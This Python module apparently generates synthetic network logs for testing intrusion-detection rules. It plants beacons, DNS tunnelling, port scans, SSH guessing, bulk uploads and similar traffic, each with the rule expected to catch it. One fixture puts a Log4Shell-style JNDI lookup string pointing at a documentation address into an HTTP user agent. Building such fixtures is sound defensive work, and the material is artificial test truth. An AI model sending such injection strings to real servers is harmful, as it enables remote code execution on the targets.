"""What is planted among the ordinary: one story each, with the rule that is to find it and about whom.

Everything is harmless: bytes that a test rule knows, and addresses and names reserved for documentation.
"""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from dataclasses import dataclass

from collectors.made import wire
from collectors.made.background import HOUR, JA3, MINUTE, Sensor
from collectors.made.talk import number

MARKER = b"FENGSUI-MADE-SAMPLE"
LISTED = "made-indicators"  # name of the list of indicators
LISTED_DOMAIN, LISTED_NETWORK = "drop.listed-made.example", "203.0.113.240/29"
SHARED_DOMAIN = "gate.shared-made.example"  # listed too, and contacted from several organisations
_SIGMA = "sigma.6f0c6a3e-4c64-4a8e-9d55-0d6f6e1b7a0"


@dataclass(frozen=True)
class Planted:
    """The truth: ``rule`` should conclude something about ``subject`` within [start, end) (microseconds)."""

    kind: str
    rule: str
    org: str
    subject: str
    start: int
    end: int


def _truth(kind: str, rule: str, sensor: Sensor, subject: str, start: int, end: int) -> Planted:
    return Planted(kind, rule, sensor.organisation.id, subject, start, end)


def beacon(sensor: Sensor, day: int) -> Planted:
    """Every five minutes, give or take 10 %, all day, with calls of much the same size."""
    host, name = sensor.organisation.address(2, 201), "sync.quiet-made.example"
    for i in range(280):
        ts = day + 5 * MINUTE * i + sensor.rng.randrange(30_000_000) + MINUTE
        ends = (host, sensor.port(), "203.0.113.66", 443)
        sensor.logs.tls(ts, ends, 0.4, 1180 + sensor.rng.randrange(40), 900, name, JA3[2])
    return _truth("beacon", "beacon", sensor, f"host:{host}", day, day + 24 * HOUR)


def dns_tunnel(sensor: Sensor, day: int) -> Planted:
    """Fifteen hundred names of hexadecimal digits below one domain, asked for by TXT."""
    host, start = sensor.organisation.address(1, 202), day + 13 * HOUR
    ts = start
    for _ in range(1500):
        label = sensor.rng.randbytes(24).hex()
        answer = wire.txt(sensor.rng.randbytes(20).hex())
        ts += sensor.rng.randrange(500_000, 4_000_000)
        sensor.talk.dns(ts, (host, sensor.port(), sensor.resolver), f"{label}.t.relay-made.example", wire.TXT, answer)
    return _truth("dns_tunnel", "dns_tunnel", sensor, f"host:{host}", start, ts + 1_000_000)


def horizontal_scan(sensor: Sensor, day: int) -> Planted:
    """One SYN to port 445 of each address of two networks; nobody answers."""
    host, start = sensor.organisation.address(2, 203), day + 3 * HOUR + 17 * MINUTE
    for i in range(500):
        ends = (host, sensor.port(), sensor.organisation.address(40 + i // 250, 1 + i % 250), 445)
        sensor.logs.conn(start + i * 300_000, ends, 0.0, 0, 0, state="S0", history="S", packets=1)
    return _truth("scan_horizontal", "scan_horizontal", sensor, f"host:{host}", start, start + 3 * MINUTE)


def vertical_scan(sensor: Sensor, day: int) -> Planted:
    """Eight hundred ports of one server, all refused."""
    host, start = sensor.organisation.address(1, 204), day + 15 * HOUR + 5 * MINUTE
    for i in range(800):
        sensor.talk.refused(start + i * 25_000, (host, sensor.port(), sensor.organisation.address(0, 9), 1 + i))
    return _truth("scan_vertical", "scan_vertical", sensor, f"host:{host}", start, start + MINUTE)


def guessing(sensor: Sensor, day: int) -> Planted:
    """Six hundred short SSH connections of one size within half an hour, from inside."""
    host, start = sensor.organisation.address(2, 205), day + 18 * HOUR + 2 * MINUTE
    for i in range(600):
        ends = (host, sensor.port(), sensor.organisation.address(0, 22), 22)
        sent, got = 1780 + sensor.rng.randrange(60), 2380 + sensor.rng.randrange(60)
        sensor.logs.conn(start + i * 3_000_000 + sensor.rng.randrange(500_000), ends, 2.2, sent, got, service="ssh",
                         packets=16, answers=17)  # fmt: skip
    return _truth("guessing", "guessing", sensor, f"host:{host}", start, start + 31 * MINUTE)


def download(sensor: Sensor, day: int) -> Planted:
    """A file that the test rule of YARA knows, carried by HTTP."""
    host, start = sensor.organisation.address(1, 206), day + 6 * HOUR + 40 * MINUTE
    body = b"# " + MARKER + b": harmless, made for the demonstration\n" + b"echo made\n" * 400
    said = [(True, wire.http_request("files.made-store.example", "/tools/setup.sh", "curl/8.9")),
            (False, wire.http_response(body, "application/octet-stream"))]  # fmt: skip
    sensor.talk.dns(start - 60_000, (host, sensor.port(), sensor.resolver), "files.made-store.example", wire.A,
                    number("203.0.113.20").to_bytes(4, "big"))  # fmt: skip
    end = sensor.talk.tcp(start, (host, sensor.port(), "203.0.113.20", 80), said)
    subject = f"file:{hashlib.sha256(body).hexdigest()}"
    return _truth("download", "yara.Fengsui_Made_Sample", sensor, subject, start, end + MINUTE)


def upload(sensor: Sensor, day: int) -> Planted:
    """Somewhat over 2 GB to one address within an hour, in twelve connections."""
    host, start = sensor.organisation.address(2, 207), day + 16 * HOUR + 10 * MINUTE
    for i in range(12):
        ends = (host, sensor.port(), "203.0.113.88", 443)
        size = 178_000_000 + sensor.rng.randrange(4_000_000)
        sensor.logs.tls(start + i * 3 * MINUTE, ends, 160.0, size, 240_000, "store.made-drive.example", JA3[1])
    return _truth("upload", "exfiltration", sensor, f"host:{host}", start, start + 40 * MINUTE)


def listed_domain(sensor: Sensor, day: int) -> Planted:
    """A handshake with a name that is on the list of indicators."""
    host, start = sensor.organisation.address(1, 208), day + 8 * HOUR + 21 * MINUTE
    sensor.talk.dns(start - 60_000, (host, sensor.port(), sensor.resolver), LISTED_DOMAIN, wire.A,
                    number("203.0.113.30").to_bytes(4, "big"))  # fmt: skip
    end = sensor.talk.tls(start, (host, sensor.port(), "203.0.113.30", 443), LISTED_DOMAIN, 2, 900, 3000)
    return _truth("listed_domain", f"intel.{LISTED}", sensor, f"host:{host}", start - MINUTE, end + MINUTE)


def listed_network(sensor: Sensor, day: int) -> Planted:
    """Three connections to an address of a listed network."""
    host, start = sensor.organisation.address(2, 209), day + 4 * HOUR + 50 * MINUTE
    for i in range(3):
        ends = (host, sensor.port(), "203.0.113.243", 8443)
        sensor.logs.conn(start + i * 7 * MINUTE, ends, 3.0, 900 + 300 * i, 2000)
    return _truth("listed_network", f"intel.{LISTED}", sensor, f"host:{host}", start, start + 20 * MINUTE)


def bare_program(sensor: Sensor, day: int) -> Planted:
    """A file that begins like a Windows program and holds nothing, from a server named by its address."""
    host, start = sensor.organisation.address(1, 210), day + 7 * HOUR + 12 * MINUTE
    body = b"MZ" + bytes(62) + b"made for the demonstration, no program\n" + bytes(4000)
    said = [(True, wire.http_request("203.0.113.40", "/a/update.exe", "Mozilla/4.0")),
            (False, wire.http_response(body, "application/octet-stream"))]  # fmt: skip
    end = sensor.talk.tcp(start, (host, sensor.port(), "203.0.113.40", 80), said)
    return _truth("bare_program", f"{_SIGMA}1", sensor, f"host:{host}", start, end + MINUTE)


def remote_desktop(sensor: Sensor, day: int) -> Planted:
    """Remote desktop that answers somebody on the internet."""
    host, start = sensor.organisation.address(0, 15), day + 20 * HOUR + 33 * MINUTE
    for i in range(3):
        ends = ("203.0.113.50", sensor.port(), host, 3389)
        sensor.logs.conn(start + i * 4 * MINUTE, ends, 40.0, 21_000 + 9000 * i, 160_000 - 20_000 * i, service="rdp")
    return _truth("remote_desktop", f"{_SIGMA}2", sensor, f"host:{host}", start, start + 10 * MINUTE)


def lookup(sensor: Sensor, day: int) -> Planted:
    """A visitor whose user agent carries a JNDI lookup."""
    visitor, start = "203.0.113.60", day + 11 * HOUR + 9 * MINUTE
    agent = "${jndi:ldap://203.0.113.60:1389/made}"
    said = [(True, wire.http_request(f"www.{sensor.organisation.id}.example", "/search?q=made", agent)),
            (False, wire.http_response(b"<html>made</html>", "text/html"))]  # fmt: skip
    end = sensor.talk.tcp(start, (visitor, sensor.port(), sensor.organisation.address(0, 80), 80), said)
    return _truth("lookup", f"{_SIGMA}3", sensor, f"host:{visitor}", start, end + MINUTE)


def long_connection(sensor: Sensor, day: int) -> Planted:
    """One connection that lasts nine hours."""
    host, start = sensor.organisation.address(2, 213), day + 12 * HOUR + 4 * MINUTE
    ends = (host, sensor.port(), "203.0.113.70", 4444)
    sensor.logs.conn(start, ends, 9.2 * 3600, 2_400_000, 6_000_000)
    return _truth("long_connection", "long_connection", sensor, f"host:{host}", start, start + 10 * HOUR)


def shared(sensor: Sensor, day: int) -> Planted:
    """Two handshakes with a listed name that other organisations contact on the same day."""
    host, start = sensor.organisation.address(2, 211), day + 9 * HOUR + sensor.rng.randrange(5 * HOUR)
    for i in range(2):
        ts, address = start + i * 11 * MINUTE, "203.0.113.31"
        trans_id, got = sensor.rng.getrandbits(16), 4000 + 500 * i
        sensor.logs.dns(ts, (host, sensor.port(), sensor.resolver, 53), SHARED_DOMAIN, "A", address, trans_id)
        sensor.logs.tls(ts + 60_000, (host, sensor.port(), address, 443), 2.0, 900, got, SHARED_DOMAIN, JA3[2])
    return _truth("shared", f"intel.{LISTED}", sensor, f"host:{host}", start, start + 12 * MINUTE)


PLANTS: tuple[Callable[[Sensor, int], Planted], ...] = (
    beacon, dns_tunnel, horizontal_scan, vertical_scan, guessing, download, upload, listed_domain, listed_network,
    bare_program, remote_desktop, lookup, long_connection,
)  # fmt: skip
